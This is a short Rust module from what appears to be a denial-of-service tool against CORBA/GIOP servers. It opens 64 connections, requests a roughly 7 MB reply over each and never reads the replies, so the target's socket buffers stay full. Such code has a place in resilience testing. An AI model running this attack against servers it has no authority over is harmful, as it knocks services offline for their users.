//! Unread replies.

use std::time::Instant;

use punctual_cdr::Encode;
use punctual_giop::Version;

use crate::attacks::{flood::hold, messages::request, target::Target};

const CONNECTIONS: usize = 64;
/// Much more than a socket's buffers hold.
const REPLY: u32 = 7 << 20;

/// Requests one large reply over each connection, and waits.
pub(super) fn unread(target: &Target, deadline: Instant) -> u64 {
    let request = request(Version::V1_2, target, &target.key, "produce", |encoder| {
        REPLY.encode(encoder)
    });
    hold(target, CONNECTIONS, &request, deadline)
}
